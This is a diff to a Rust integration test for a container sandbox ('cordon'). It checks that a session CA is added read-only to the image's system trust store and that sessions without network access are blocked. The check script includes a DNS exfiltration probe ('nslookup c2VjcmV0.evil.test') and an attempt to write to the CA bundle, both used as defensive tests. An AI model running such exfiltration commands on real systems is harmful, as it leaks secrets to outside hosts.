@@ -4,7 +4,9 @@
 //! one without. The proxy runs in this test's process, inside the test's own internet
 //! ([`net::run`]); the containers are the engine's, in network namespaces of their own.
 //! The session with a way out brokers a credential for one HTTPS domain: the same proxy
-//! path adds it, the container's curl trusting the session CA through its variables.
+//! path adds it, the container's curl trusting the session CA through its variables and
+//! through the image's own system bundle, which the claim covers with the image's roots
+//! and the session CA.
 
 use std::collections::HashMap;
 use std::net::{IpAddr, SocketAddr};
@@ -23,10 +25,11 @@ use cordon::sandbox::{Backend, Sandbox, SandboxSpec};
 use cordon_tests::net::{self, SERVER};
 use cordon_tests::tls::TestCa;
 use cordon_tests::{Workspace, cordon_bin, docker_ready};
+use sandbox_agent::egress::ca::SYSTEM_BUNDLE;
 use sandbox_agent::proto::ExecRequest;
 
 /// The image the test builds: `cordon-minimal` with the host's curl and the libraries it
-/// loads, at their own paths.
+/// loads, at their own paths, and the host's system CA bundle.
 const IMAGE: &str = "cordon-test-net-curl";
 
 /// Builds [`IMAGE`] through `cordon images build` (a project image, as a user makes one).
@@ -37,6 +40,9 @@ fn build_curl_image(home: &Path) {
     let elf = std::fs::read(curl).expect("the host's curl");
     let mut files = elf_deps::runtime_files(curl, &elf).unwrap();
     files.push(curl.to_path_buf());
+    // The host's system roots, at the image's system bundle: a claim binds the session CA
+    // over it.
+    files.push(Path::new(SYSTEM_BUNDLE).to_path_buf());
     for f in &files {
         let dst = root.join(f.strip_prefix("/").unwrap());
         std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
@@ -127,6 +133,10 @@ check dns_exfil nslookup c2VjcmV0.evil.test
 check bridge curl -sS --max-time 20 -x http://127.0.0.1:3128 http://allowed.test/z
 check brokered curl -sS --max-time 20 https://secure.test/b
 check ca_bundle echo "$CURL_CA_BUNDLE"
+check system_store grep -c 'Cordon session CA' /etc/ssl/certs/ca-certificates.crt
+check system_roots grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt
+check system_brokered env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS --max-time 20 --cacert /etc/ssl/certs/ca-certificates.crt https://secure.test/b
+check system_store_write sh -c 'echo x >> /etc/ssl/certs/ca-certificates.crt && echo wrote'
 "#;
 
 async fn checks(sandbox: &Sandbox) -> HashMap<String, (i32, String)> {
@@ -214,6 +224,21 @@ fn docker_sessions_with_and_without_a_way_out_share_the_warm_pool() {
         // session CA through the bundle its agent wrote in the run dir.
         assert_eq!(get("brokered"), (0, "served".into()));
         assert_eq!(get("ca_bundle"), (0, "/run/cordon/ca-bundle.crt".into()));
+        // The image's system store trusts it too, a program that reads no variable
+        // included: the image's own roots, then the session CA, read-only.
+        let host_roots = std::fs::read_to_string(SYSTEM_BUNDLE)
+            .unwrap()
+            .matches("BEGIN CERTIFICATE")
+            .count();
+        assert_eq!(get("system_store"), (0, "1".into()));
+        assert_eq!(get("system_roots"), (0, (host_roots + 1).to_string()));
+        assert_eq!(get("system_brokered"), (0, "served".into()));
+        assert_ne!(
+            get("system_store_write").0,
+            0,
+            "{:?}",
+            get("system_store_write")
+        );
         let heads = heads.lock().unwrap().clone();
         assert!(
             heads
@@ -270,6 +295,12 @@ fn docker_sessions_with_and_without_a_way_out_share_the_warm_pool() {
             let (rc, out) = c.get(name).cloned().unwrap();
             assert_ne!(rc, 0, "{name} without network: {out}");
         }
+        // The image's store, untouched by the other session's CA.
+        assert_eq!(c.get("system_store").cloned(), Some((1, "0".into())));
+        assert_eq!(
+            c.get("system_roots").cloned(),
+            Some((0, host_roots.to_string()))
+        );
         assert!(
             !run_root
                 .join("cordon-net-docker-none/sock/egress.sock")
